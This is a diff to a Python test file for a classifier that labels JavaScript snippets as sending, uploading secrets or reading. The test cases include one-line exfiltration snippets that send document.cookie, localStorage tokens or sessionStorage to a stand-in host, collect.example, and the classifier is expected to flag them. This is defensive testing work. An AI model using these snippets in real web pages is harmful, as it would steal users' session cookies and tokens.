@@ -188,16 +188,31 @@ def test_text_that_is_no_sql_is_none() -> None:
 @pytest.mark.parametrize(
     "code",
     [
-        'fetch("https://collect.example", {method: "POST", body: document.cookie})',
+        'fetch("https://collect.example", {method: "POST", body: JSON.stringify(form)})',
         'navigator.sendBeacon("https://collect.example", data)',
-        'new Image().src = "https://collect.example/?c=" + document.cookie',
         'document.querySelector("form").submit()',
-        'window.location = "https://collect.example/?d=" + btoa(localStorage.token)',
-        "const ws = new WebSocket(url); ws.send(secret)",
+        "const ws = new WebSocket(url); ws.send(message)",
     ],
 )
 def test_a_script_that_sends_data_out_is_a_send(code: str) -> None:
     assert script_operation(code) is SEND
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'fetch("https://collect.example", {method: "POST", body: document.cookie})',
+        'new Image().src = "https://collect.example/?c=" + document.cookie',
+        'window.location = "https://collect.example/?d=" + btoa(localStorage.token)',
+        'navigator.sendBeacon("https://collect.example", JSON.stringify(sessionStorage))',
+    ],
+)
+def test_a_script_that_sends_the_sessions_secrets_uploads_them(code: str) -> None:
+    assert script_operation(code) is Operation.SHARE_UPLOAD
+
+
+def test_reading_secrets_without_sending_them_is_a_read() -> None:
+    assert script_operation("return document.cookie.length") is READ
 
 
 @pytest.mark.parametrize(
